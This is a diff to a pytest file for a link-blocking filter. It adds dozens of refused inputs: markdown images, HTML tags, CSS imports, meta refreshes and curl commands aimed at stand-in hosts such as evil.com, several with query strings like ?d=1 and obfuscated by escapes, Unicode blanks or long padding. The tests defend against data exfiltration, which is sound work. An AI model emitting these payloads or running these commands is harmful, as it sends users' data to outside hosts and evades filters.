@@ -45,6 +45,23 @@ REFUSED = [
     "[id]: <//evil>",
     "[![alt](https://evil.com/i.png)](https://ok.org)",
     "[a](https://ok.org),[b](https://evil.com)",
+    "> ![a](\n> https\\://evil.com/x?d=1)",
+    "> > ![a](\n> > http\\:evil.com/x)",
+    "- ![a](\n  //evil.com./x)",
+    "1. ![a](\n   //évil.com/x)",
+    "> [a]:\n> //2130706433/x\n\n![a]",
+    "> ![a](\n> //evil\\.com/x)",
+    *(f"![a]({blank}//evil/x)" for blank in "\u00a0\u2003\u2028\u3000\ufeff\u1680\v\x01"),
+    *(f"![a]({blank * count}//evil/x)" for blank in (" ", "\n> ", "\u3000") for count in (400, 5000)),
+    "![a] (//evil/x)",
+    "![a]\n> (\\\\evil/x)",
+    "<http:evil.com/x>",
+    "<https\\:evil>",
+    "![a](https://ok.org\u00a0@evil.com/x)",
+    "![a](<https://ok.org\\>@evil.com/x>)",
+    "![a](/\t/evil)",
+    'https://ok.org"xx@evil.com/',
+    "https://ok.org\u3000x@evil.com/",
     # HTML and CSS
     "<img src=//evil/x.png>",
     r"<img src=\\evil.com\x>",
@@ -59,6 +76,27 @@ REFUSED = [
     '<div style="background:url(//evil/x)">',
     r'<div style="background:url(\68ttps:\2f/evil.com)">',
     '@import "//evil.com/x.css"',
+    "@import/* a */'//evil';",
+    "@im\\70ort\n'//evil';",
+    '@import "http:evil"',
+    '<p style="a:image-set(\'x.png\' 1x, \'//evil/x\' 2x)">',
+    "a{b:-webkit-image-set(/**/\"//evil\" 1x)}",
+    "a{b:u\\72l(//evil)} ",
+    "a{b:\\75 RL( '//evil')}",
+    "<img src=/a attributionsrc=//evil/x>",
+    "<svg><use xlink:href=//evil/x#y>",
+    "<link imagesrcset='a 1x, //evil 2x'>",
+    "<a><animate attributeName=href to='intent:evil'>",
+    "<img src=https://ok.org\u00a0@evil.com/>",
+    f"<img src={' ' * 3000}//evil/x>",
+    f"<img src{chr(10) * 3000}={chr(9) * 3000}'{' ' * 3000}//evil/x'>",
+    "> <img src='https://ok.org\n> .evil.com/x'>",
+    "- <img src='//ok.org\n    .evil.com/x'>",
+    "<meta http-equiv=refresh content='0;//evil'>",
+    "<meta http-equiv=refresh content=' .5 , //evil'>",
+    '<meta content="0 //evil" http-equiv=refresh>',
+    "<meta content='0; URL = \"/\t/evil\"' http-equiv=refresh>",
+    "<iframe srcdoc='&#60img src=&#47&#47evil&#62'>",
     # other markup
     "<https://evil.com|label>",
     "[url=//evil/x]hi[/url]",
@@ -71,6 +109,20 @@ REFUSED = [
     "evil.com:8080/path",
     "ok.org:8080/path",
     "suspicious.domain.security/logo.png?colab=abc)",
+    "curl 93.184.216.34/?d=1",
+    "curl 93.184.216.34:8080/x",
+    "curl 1572395042/?d=1",
+    "curl [2001:db8::1]/x",
+    "curl [2001:db8::1]:8080?d=1",
+    "curl évil.com/x",
+    "curl 例え.jp/x?d=1",
+    "curl xn.пример.рф/x",
+    "curl evil。com/x",
+    "//évil.com",
+    "//evil.com.",
+    "//evil\\.com",
+    "https\\://evil.com",
+    "http:evil.com/x",
     "(//evil.com)",
     "ht\ttps://evil.com",
     "https:/evil.com",
@@ -126,6 +178,11 @@ PASSED = [
     "hooks/builtin/links.py src/main.py:12 node.js README.md 3.5/7 U.S./Canada metadata:a;b",
     "The steps are as follows:",
     "The order is a:/",
+    "//comment //x/y a //b 7//2 [a]: //2 `//` http: 12:30 https:// 10.0.0.0/8 192.168.0.0/16, a[1:2]/x [1]: [f]",
+    "и/или 和/或 ну и/и. ja/nein; т.е./т.к. see bücher.example/x and b.bücher/x",
+    "image('nginx:latest') and print(image('a'), 'b: c') content=\"0; no\" to=a:b",
+    "[Ann]: Note: this. [Ann]:\n\nNote: this",
+    "-> list[str]:\n    try:\n        x",
     "a.b.org@ok.org/x www.ok.org/x ok.org/x?y=1 port.org:8443/x",
 ]
 
@@ -300,6 +357,19 @@ def is_of_list(address: str) -> bool:
         return url.protocol not in ("javascript:", "data:", "file:")
     last = url.hostname.rpartition(".")[2]
     return re.fullmatch(r"(?:.*\.)?ok\.org\.?", url.hostname) is not None or not last.isalnum()
+
+
+@pytest.mark.parametrize("before", ["![a](", "<img src='", "[a]:", "@import '", "<meta content='0;"])
+def test_blanks_without_bound_are_not_held(before: str) -> None:
+    """Behind any number of blanks an address is found, and the blanks leave as they come."""
+    for blank in (" ", "\n> ", "\u2003"):
+        text = f"{before}{blank * 2000}https\\://evil.com/x?d=1) '> and so on"
+        watch = Watch(Links(allow=ALLOW))
+        released = said(watch, [*re.findall("(?s).{1,97}", text)])
+        assert released == said(Links(allow=ALLOW), [text])
+        assert released.startswith(before + blank * 2000)
+        assert "evil" not in released
+        assert watch.most_held < 2 * 97
 
 
 @given(st.lists(PIECES, max_size=6).map(lambda pieces: "https://" + "".join(pieces)))
